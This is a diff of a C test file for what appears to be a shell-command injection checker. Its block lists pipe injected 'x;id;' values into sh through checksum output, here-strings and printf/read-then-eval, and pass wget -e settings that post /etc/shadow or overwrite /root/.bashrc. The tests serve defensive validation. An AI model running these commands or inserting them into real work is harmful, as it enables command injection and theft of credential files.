@@ -249,11 +249,11 @@ static void argv_wget_execute_is_a_wgetrc_command(void **state)
 static void a_hash_stage_that_checks_prints_the_input_back(void **state)
 {
 	static const char *const blocks[][3] = {
-	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ",
-	     "x;id;", "' | sha256sum -c 2>/dev/null | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;",
+	     "' | sha256sum -c 2>/dev/null | sh"},
 	    {"echo '00000000000000000000000000000000  ", "x;id;", "' | md5sum -c 2>/dev/null | sh"},
-	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ",
-	     "x;id;", "' | sha256sum --check --quiet 2>/dev/null | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;",
+	     "' | sha256sum --check --quiet 2>/dev/null | sh"},
 	};
 	static const char *const passes[][3] = {
 	    {"echo '", "x; id", "' | sha256sum | sh -c 'cat > sum.txt'"},
@@ -294,12 +294,9 @@ static void wget_e_settings_that_name_a_file_still_fire_in_a_line(void **state)
 static void a_substitution_or_here_string_redirected_into_a_shell(void **state)
 {
 	static const char *const blocks[][3] = {
-	    {"bash < <(echo '", "x; id", "')"},
-	    {"sh < <(echo '", "x; id", "')"},
-	    {"ssh -T host < <(echo '", "x; id", "')"},
-	    {"bash /dev/stdin <<< '", "x; id", "'"},
-	    {"bash -c \"$(cat <<< '", "x; id", "')\""},
-	    {"bash <(cat <<< '", "x; id", "')"},
+	    {"bash < <(echo '", "x; id", "')"},         {"sh < <(echo '", "x; id", "')"},
+	    {"ssh -T host < <(echo '", "x; id", "')"},  {"bash /dev/stdin <<< '", "x; id", "'"},
+	    {"bash -c \"$(cat <<< '", "x; id", "')\""}, {"bash <(cat <<< '", "x; id", "')"},
 	};
 	static const char *const passes[][3] = {
 	    {"diff < <(echo '", "x; id", "') old.txt"},
@@ -337,12 +334,18 @@ static void a_value_copied_by_printf_or_read_with_ifs_then_run(void **state)
 static void shell20_hash_check_modes_print_names(void **state)
 {
 	static const char *const blocks[][3] = {
-	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | sha256sum -wc 2>/dev/null | sh"},
-	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | md5sum --che 2>/dev/null | bash"},
-	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | cksum -a sha256 --untagged -c | sh"},
-	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | b2sum -l 256 -c | sh"},
-	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | busybox sha256sum -c | sh"},
-	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;", "' | sha1sum '--check' | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;",
+	     "' | sha256sum -wc 2>/dev/null | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;",
+	     "' | md5sum --che 2>/dev/null | bash"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;",
+	     "' | cksum -a sha256 --untagged -c | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;",
+	     "' | b2sum -l 256 -c | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;",
+	     "' | busybox sha256sum -c | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ", "x;id;",
+	     "' | sha1sum '--check' | sh"},
 	    {"printf '%s\\0' '", "x;id;", "' | wc --files0-from=- | sh"},
 	    {"echo '", "x;id;", "' | cksum --raw | sh"},
 	};
@@ -362,12 +365,14 @@ static void shell20_hash_check_modes_print_names(void **state)
  * credential and no request body pass (robots, tries, timeout,
  * user_agent ...: the list in ma_sh_wgetrc_key); any other command,
  * also one wget does not know or one whose name is split by quotes,
- * fires, in the line and in argv. */
+ * fires, in the line and in argv (an input of one word that is an
+ * option, -eoutput_document=F alone, is judged nowhere, as
+ * --upload-pack=id alone: the input's new words are). */
 static void shell20_wget_e_only_plain_settings_pass(void **state)
 {
 	static const char *const blocks[][3] = {
 	    {"wget ", "-e OutputDocument=/root/.bashrc", " http://x/"},
-	    {"wget ", "--execute=post-file=/etc/shadow", " http://x/"},
+	    {"wget ", "--execute=post-file=/etc/shadow http://x/", ""},
 	    {"wget ", "-e dir_prefix=/var/www", " http://x/"},
 	    {"wget ", "-e hsts_file=/root/.bashrc", " http://x/"},
 	    {"wget ", "-e body_file=/etc/shadow", " http://x/"},
@@ -377,7 +382,7 @@ static void shell20_wget_e_only_plain_settings_pass(void **state)
 	    {"wget ", "-e header=Cookie:a", " http://x/"},
 	    {"wget -q ", "--execute input=/etc/passwd", " http://x/"},
 	    {"wget ", "-e warc_file=/var/www/x", " http://x/"},
-	    {"wget ", "-eoutput_document=/root/.bashrc", " http://x/"},
+	    {"wget ", "-eoutput_document=/root/.bashrc http://x/", ""},
 	};
 	static const char *const passes[][3] = {
 	    {"wget ", "-e tries=3", " http://x/"},
@@ -426,6 +431,9 @@ static void shell20_stdin_of_a_shell_from_a_substitution(void **state)
 	    {"grep -c x <(cat <<< '", "x; id", "')"},
 	    {"bash <(cat <<< '", "x; id", "' > f)"},
 	    {"bash run.sh /dev/stdin <<< '", "x; id", "'"},
+	    /* ssh's standard input, not its remote command (main 66d44e8
+	     * blocked it: the here-string was read as a word of it) */
+	    {"ssh host cat <<< '", "x; id", "'"},
 	    {"bash < <(echo '", "red shoes", "')"},
 	};
 
@@ -444,12 +452,15 @@ static void shell20_copies_by_printf_and_read(void **state)
 	    {"LC_ALL=C IFS= read -r line <<< '", "x; id", "'; eval \"$line\""},
 	    {"read -r x <<E\n", "x; id", "\nE\nsh -c \"$x\""},
 	    {"IFS= read -r x <<-'E'\n", "x; id", "\n\tE\neval \"$x\""},
+	    {"printf -v y %s '", "x; id", "'; eval \"$y\""},
+	    {"x='", "x; id", "'; printf -v 'y' %s \"$x\"; eval \"$y\""},
 	};
 	static const char *const passes[][3] = {
 	    {"x='", "x; id", "'; printf -v y %q \"$x\"; eval \"echo $y\""},
 	    {"x='", "x; id", "'; printf -v y %s \"$x\"; echo \"$y\""},
 	    {"read -r x <<'E'\n", "x; id", "\nE\necho \"$x\" > f"},
 	    {"read -r x <<'E'\n", "x; id", "\nE\neval \"$y\""},
+	    {"printf -v y %q '", "x; id", "'; eval \"$y\""},
 	};
 
 	(void)state;
